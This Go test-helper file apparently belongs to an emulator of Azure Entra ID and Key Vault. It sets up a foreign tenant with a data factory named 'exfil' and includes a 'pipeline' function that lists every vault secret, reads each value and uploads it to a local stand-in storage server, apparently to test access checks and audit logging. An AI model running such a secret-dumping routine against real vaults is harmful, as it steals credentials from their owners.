package scenario

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"path/filepath"
	"sync"
	"testing"
	"time"

	proxyproto "github.com/pires/go-proxyproto"

	"postern/access"
	"postern/internal/entra"
	"postern/internal/journal"
	"postern/internal/seal"
	"postern/internal/store"
	"postern/internal/store/bolt"
	"postern/posterntest"
)

const (
	api           = "?api-version=7.4"
	vaultAPI      = "?api-version=2023-07-01"
	roleAPI       = "?api-version=2022-04-01"
	vaultResource = "https://vault.azure.net"
)

type object = map[string]any

// elsewhere is the other tenant: a data factory with its system-assigned
// identity, and an application with a secret.
type elsewhere struct {
	tenant           string
	factory          access.GUID
	factoryResource  string
	factoryToken     string
	client, spn, key string
}

// planted makes the other tenant in the folder of a server that is stopped.
func planted(t *testing.T, dir string) elsewhere {
	t.Helper()
	ctx := context.Background()
	st, err := bolt.Open(filepath.Join(dir, "postern.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	root, err := seal.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	d, err := entra.Open(ctx, st, root, entra.Options{Now: time.Now})
	if err != nil {
		t.Fatal(err)
	}
	tenant, err := d.CreateTenant(ctx, "Fabrikam", "fabrikam.example")
	if err != nil {
		t.Fatal(err)
	}
	e := elsewhere{tenant: tenant.ID.String(), factoryResource: "/subscriptions/0f3df0f9-0000-4000-8000-00000000000b/resourcegroups/loot/providers/Microsoft.DataFactory/factories/exfil"}
	app, secret, err := d.CreateServicePrincipal(ctx, tenant.ID, "script-runner")
	if err != nil {
		t.Fatal(err)
	}
	e.client, e.spn, e.key = app.App.String(), app.Object.String(), secret
	var tx store.Tx
	m := d.Manage(&tx)
	identity, err := m.Create(tenant.ID, "exfil", e.factoryResource, false)
	if err == nil {
		err = st.Commit(ctx, &tx)
	}
	m.Finish(ctx, err == nil, err != nil)
	if err != nil {
		t.Fatal(err)
	}
	e.factory = identity.Object
	if e.factoryToken, _, err = d.ManagedToken(identity.Object, vaultResource); err != nil {
		t.Fatal(err)
	}
	return e
}

// tokenOf gets a token of a tenant over the login endpoint.
func tokenOf(t *testing.T, p *posterntest.Postern, tenant, client, secret string) string {
	t.Helper()
	got, err := p.Client().PostForm(p.LoginURL+"/"+tenant+"/oauth2/v2.0/token", url.Values{"grant_type": {"client_credentials"},
		"client_id": {client}, "client_secret": {secret}, "scope": {vaultResource + "/.default"}})
	if err != nil {
		t.Fatal(err)
	}
	defer got.Body.Close()
	var answer struct {
		Token string `json:"access_token"`
	}
	if err := json.NewDecoder(got.Body).Decode(&answer); err != nil || answer.Token == "" {
		t.Fatalf("no token of tenant %s: %d %v", tenant, got.StatusCode, err)
	}
	return answer.Token
}

// at is the server as somebody with an address meets it, through a balancer
// that tells the address; a certificate is shown where there is one.
func at(t *testing.T, p *posterntest.Postern, address string, certificate *tls.Certificate) *posterntest.Postern {
	t.Helper()
	client, balancer := p.NewClient(), p.BalancedAddress()
	transport := client.Transport.(*http.Transport)
	transport.DialContext = func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		c, err := d.DialContext(ctx, "tcp", balancer)
		if err != nil {
			return nil, err
		}
		source := net.TCPAddrFromAddrPort(netip.AddrPortFrom(netip.MustParseAddr(address), 50000))
		if _, err := proxyproto.HeaderProxyFromAddrs(2, source, &net.TCPAddr{IP: net.IPv4(20, 1, 2, 3), Port: 443}).WriteTo(c); err != nil {
			c.Close()
			return nil, err
		}
		return c, nil
	}
	if certificate != nil {
		transport.TLSClientConfig.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return certificate, nil }
	}
	t.Cleanup(client.CloseIdleConnections)
	return p.Over(client)
}

// do is what has to succeed, by the administrator.
func do(t *testing.T, p *posterntest.Postern, method, target string, body any) []byte {
	t.Helper()
	status, text := p.Do(method, target, body)
	if status/100 != 2 {
		t.Fatalf("%s %s = %d %s", method, target, status, text)
	}
	return text
}

// refusal is an error as a client reads it: the status, the code, the inner
// code and the message.
func refusal(status int, text []byte) string {
	var e struct {
		Error struct {
			Code, Message string
			InnerError    struct{ Code string }
		}
	}
	_ = json.Unmarshal(text, &e) // what cannot be read shows as nothing
	return fmt.Sprintf("%d %s %s: %s", status, e.Error.Code, e.Error.InnerError.Code, e.Error.Message)
}

// target is where a pipeline writes: a storage account of the other tenant.
type target struct {
	*httptest.Server
	mu   sync.Mutex
	dump map[string]string
}

func newTarget(t *testing.T) *target {
	l := &target{dump: map[string]string{}}
	l.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil || r.Method != http.MethodPut {
			http.Error(w, "PUT alone", http.StatusBadRequest)
			return
		}
		l.mu.Lock()
		defer l.mu.Unlock()
		l.dump[r.URL.Path] = string(body)
		w.WriteHeader(http.StatusCreated)
	}))
	t.Cleanup(l.Close)
	return l
}

// pipeline is what the article's does: list, for each get the value, write
// it to the target.
func pipeline(over *posterntest.Postern, token, vault string, to *target) error {
	for next := vault + "/secrets" + api + "&maxresults=2"; next != ""; {
		status, text := over.DoAs(token, http.MethodGet, next, nil)
		if status != http.StatusOK {
			return fmt.Errorf("list: %s", refusal(status, text))
		}
		var page struct {
			Value    []struct{ ID string }
			NextLink string
		}
		if err := json.Unmarshal(text, &page); err != nil {
			return err
		}
		for _, item := range page.Value {
			status, text := over.DoAs(token, http.MethodGet, item.ID+api, nil)
			var secret struct{ Value string }
			if err := json.Unmarshal(text, &secret); err != nil || status != http.StatusOK {
				return fmt.Errorf("get: %s %v", refusal(status, text), err)
			}
			r, err := http.NewRequest(http.MethodPut, to.URL+item.ID[len(vault):], bytes.NewBufferString(secret.Value))
			if err != nil {
				return err
			}
			put, err := to.Client().Do(r)
			if err != nil {
				return err
			}
			put.Body.Close()
		}
		next = page.NextLink
	}
	return nil
}

// recorded is the journal so far.
func recorded(t *testing.T, p *posterntest.Postern) []*journal.Record {
	t.Helper()
	var all []*journal.Record
	if err := journal.Read(filepath.Join(p.Data, "journal"), func(r *journal.Record) error { all = append(all, r); return nil }); err != nil {
		t.Fatal(err)
	}
	return all
}
